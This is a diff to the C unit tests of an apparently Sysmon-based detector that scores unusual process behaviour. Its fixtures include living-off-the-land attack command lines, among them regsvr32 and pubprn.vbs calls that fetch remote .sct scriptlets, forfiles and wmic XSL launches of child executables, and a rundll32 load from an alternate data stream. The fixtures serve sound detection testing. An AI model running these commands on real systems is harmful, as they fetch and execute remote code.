@@ -145,6 +145,9 @@ static const struct {
 	    "C:/Windows/SysWOW64/x.ocx .\\rel\\a.txt", false,
 	    "<dotnet>\\*.exe <syswow64>\\*.ocx <relative>\\*.txt" },
 	{ "x.exe - -- /? \"\" C:\\Windows\\", false, "- -- /?  <windir>\\" },
+	/* the script: moniker (pubprn.vbs, GetObject) */
+	{ "cscript pubprn.vbs 127.0.0.1 script:https://e/a.sct", false,
+	    "pubprn.vbs <ip> <url:script>" },
 	/* alternate data streams, root-level 8.3 short names */
 	{ "rundll32.exe C:\\Users\\Public\\doc.txt:p.dll,Start", true,
 	    "<users-public>\\*.txt:*.dll,start" },
@@ -915,44 +918,57 @@ START_TEST(score_priors)
 		const char *image, *cmd, *parent, *cwd;
 		enum ev_level min;	/* NONE: benign, no finding */
 		const char *expect;
+		const char *child;	/* the image of what it started */
 	} runs[] = {
 		/* benign */
 		{ SYS32 "regsvr32.exe", "regsvr32 /s \"C:\\Program Files\\V"
-		    "\\comp.dll\"", SYS32 "msiexec.exe", NULL, EV_LEVEL_NONE, NULL },
+		    "\\comp.dll\"", SYS32 "msiexec.exe", NULL, EV_LEVEL_NONE, NULL, NULL },
 		{ SYS32 "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL"
 		    " desk.cpl", "C:\\Windows\\explorer.exe",
-		    "C:\\Users\\bob\\", EV_LEVEL_NONE, NULL },
+		    "C:\\Users\\bob\\", EV_LEVEL_NONE, NULL, NULL },
 		{ SYS32 "wmic.exe", "wmic os get caption", SYS32 "cmd.exe",
-		    "C:\\Users\\adm\\", EV_LEVEL_NONE, NULL },
+		    "C:\\Users\\adm\\", EV_LEVEL_NONE, NULL, NULL },
 		{ SYS32 "cscript.exe", "cscript //nologo C:\\Windows\\System32"
 		    "\\slmgr.vbs /dli", SYS32 "cmd.exe", "C:\\Users\\adm\\",
-		    EV_LEVEL_NONE, NULL },
+		    EV_LEVEL_NONE, NULL, NULL },
 		{ SYS32 "msiexec.exe", "msiexec /i C:\\Users\\bob\\Downloads"
 		    "\\app.msi", "C:\\Windows\\explorer.exe", NULL,
-		    EV_LEVEL_NONE, NULL },
+		    EV_LEVEL_NONE, NULL, NULL },
 		{ DOTNET "MSBuild.exe", "MSBuild.exe C:\\Users\\dev\\src\\a"
 		    "\\a.sln /p:Configuration=Release", "C:\\Program Files\\VS"
-		    "\\devenv.exe", NULL, EV_LEVEL_NONE, NULL },
+		    "\\devenv.exe", NULL, EV_LEVEL_NONE, NULL, NULL },
 		/* attacks */
 		{ DOTNET "RegAsm.exe", "RegAsm.exe /U payload.dll", SYS32
 		    "cmd.exe", "C:\\ProgramData\\x\\", EV_LEVEL_MEDIUM,
 		    "regasm.exe: parent `<system32>\\cmd.exe` is not a usual "
-		    "parent of regasm.exe (no other invocations)" },
+		    "parent of regasm.exe (no other invocations)", NULL },
 		{ DOTNET "MSBuild.exe", "MSBuild.exe C:\\Users\\Public\\b.xml",
 		    SYS32 "WindowsPowerShell\\v1.0\\powershell.exe", NULL,
-		    EV_LEVEL_MEDIUM, "argument `<users-public>\\*.xml`" },
+		    EV_LEVEL_MEDIUM, "argument `<users-public>\\*.xml`", NULL },
 		{ SYS32 "mshta.exe", "mshta.exe -Embedding", SYS32 "svchost.exe",
-		    NULL, EV_LEVEL_MEDIUM, "argument `-embedding`" },
+		    NULL, EV_LEVEL_MEDIUM, "argument `-embedding`", NULL },
 		{ SYS32 "rundll32.exe", "rundll32.exe C:\\Users\\Public\\d.txt"
 		    ":p.dll,Start", "C:\\Windows\\explorer.exe", NULL,
-		    EV_LEVEL_LOW, "argument `<users-public>\\*.txt:*.dll,start`" },
+		    EV_LEVEL_LOW, "argument `<users-public>\\*.txt:*.dll,start`", NULL },
 		{ SYS32 "regsvr32.exe", "regsvr32 /s /u /i:http://e/a.sct "
 		    "scrobj.dll", SYS32 "cmd.exe", NULL, EV_LEVEL_MEDIUM,
-		    "argument `/i:<url:http>`" },
+		    "argument `/i:<url:http>`", NULL },
 		{ DOTNET "InstallUtil.exe", "InstallUtil.exe /logfile= /U "
 		    "C:\\PROGRA~3\\x.dll", SYS32 "cmd.exe", NULL,
-		    EV_LEVEL_MEDIUM, "argument `<short-name>\\*.dll`" },
+		    EV_LEVEL_MEDIUM, "argument `<short-name>\\*.dll`", NULL },
+		/* the descendant view: judged by what it started */
+		{ SYS32 "forfiles.exe", "forfiles /p C:\\Logs /m *.log /c "
+		    "\"cmd /c del @path\"", SYS32 "cmd.exe", NULL, EV_LEVEL_NONE,
+		    NULL, SYS32 "cmd.exe" },
+		{ SYS32 "forfiles.exe", "forfiles /p c:\\windows\\system32 /m "
+		    "notepad.exe /c calc.exe", SYS32 "cmd.exe", NULL,
+		    EV_LEVEL_LOW, "child process `<system32>\\calc.exe`",
+		    SYS32 "calc.exe" },
+		{ SYS32 "wbem\\WMIC.exe", "wmic os get /format:x.xsl", SYS32
+		    "cmd.exe", NULL, EV_LEVEL_LOW, "child process "
+		    "`<user-profile>\\a<n>.exe`", "C:\\Users\\bob\\a1.exe" },
 	};
+	struct ev_event *ev[NELEM(runs)];
 	struct base_result r;
 	struct ev_err err = EV_ERR_INIT;
 	struct corr *corr;
@@ -963,14 +979,27 @@ START_TEST(score_priors)
 		struct ev_event *e;
 
 		snprintf(host, sizeof(host), "H%zu", i);
-		e = proc(host, runs[i].image, "", runs[i].cmd, runs[i].parent,
-		    guid);
+		e = ev[i] = proc(host, runs[i].image, "", runs[i].cmd,
+		    runs[i].parent, guid);
 		e->col[EV_COL_CURRENT_DIRECTORY] = runs[i].cwd;
+		if (runs[i].child != NULL)
+			push(TEV_SYSMON(&arena, 1, host, tick + 1, recno++,
+			    "ProcessGuid", "{00000000-0000-0000-0000-ffffffffffff}",
+			    "ProcessId", "9", "ParentProcessGuid", guid,
+			    "Image", runs[i].child, "ParentImage", runs[i].image,
+			    NULL));
 	}
+	/* what the processes did: loads and connections */
+	strcpy(guid, ev[0]->col[EV_COL_PROCESS_GUID]);
+	load("H0", guid, SYS32 "kernelbase.dll");	/* benign regsvr32 */
+	strcpy(guid, ev[10]->col[EV_COL_PROCESS_GUID]);
+	load("H10", guid, SYS32 "scrobj.dll");	/* Squiblydoo */
+	strcpy(guid, ev[2]->col[EV_COL_PROCESS_GUID]);
+	net("H2", guid, "10.0.0.9", "135");	/* wmic /node: */
 	ck_assert_int_eq(corr_build(evs, nev, &corr, &err), 0);
 	ck_assert_int_eq(base_score(cfg, NULL, corr, evs, nev, &r, &err), 0);
 	for (size_t i = 0; i < NELEM(runs); i++) {
-		const struct base_finding *f = finding_for(&r, evs[i],
+		const struct base_finding *f = finding_for(&r, ev[i],
 		    BASE_FINDING_UNUSUAL);
 
 		if (runs[i].min == EV_LEVEL_NONE) {
@@ -987,7 +1016,37 @@ START_TEST(score_priors)
 		    runs[i].cmd, ev_level_name(f->level), f->details,
 		    runs[i].expect);
 	}
+	ck_assert(strstr(finding_for(&r, ev[10], BASE_FINDING_UNUSUAL)->details,
+	    "loaded module `<system32>\\scrobj.dll`") != NULL);
 	ck_assert_uint_eq(r.nunbaselined, 0);
+	base_result_release(&r);
+	corr_free(corr);
+}
+END_TEST
+
+/* an inbound connection into a proxy: its local port is the feature */
+START_TEST(score_prior_inbound)
+{
+	struct base_result r;
+	struct ev_err err = EV_ERR_INIT;
+	struct corr *corr;
+	const struct base_finding *f;
+	struct ev_event *p;
+	char guid[40];
+
+	load_priors();
+	p = proc("H", SYS32 "regsvr32.exe", "REGSVR32.EXE", "regsvr32 /s "
+	    "C:\\Windows\\System32\\a.dll", SYS32 "msiexec.exe", guid);
+	push(TEV_SYSMON(&arena, 3, "H", tick + 5, recno++, "ProcessGuid",
+	    guid, "Protocol", "tcp", "Initiated", "false", "SourceIp",
+	    "10.0.0.7", "SourcePort", "4444", "DestinationIp", "10.0.0.2",
+	    "DestinationPort", "51234", NULL));
+	ck_assert_int_eq(corr_build(evs, nev, &corr, &err), 0);
+	ck_assert_int_eq(base_score(cfg, NULL, corr, evs, nev, &r, &err), 0);
+	f = finding_for(&r, p, BASE_FINDING_UNUSUAL);
+	ck_assert_msg(f != NULL && f->level >= EV_LEVEL_LOW && strstr(f->details,
+	    "network destination `in:private:4444/tcp` is not a usual network "
+	    "destination of regsvr32.exe") != NULL, "%s", f ? f->details : "");
 	base_result_release(&r);
 	corr_free(corr);
 }
@@ -1131,6 +1190,7 @@ main(void)
 	tcase_add_loop_test(tc, prior_bad, 0, NELEM(bad_priors));
 	tcase_add_test(tc, prior_expects);
 	tcase_add_test(tc, score_priors);
+	tcase_add_test(tc, score_prior_inbound);
 	suite_add_tcase(s, tc);
 
 	tc = tcase_create("db");
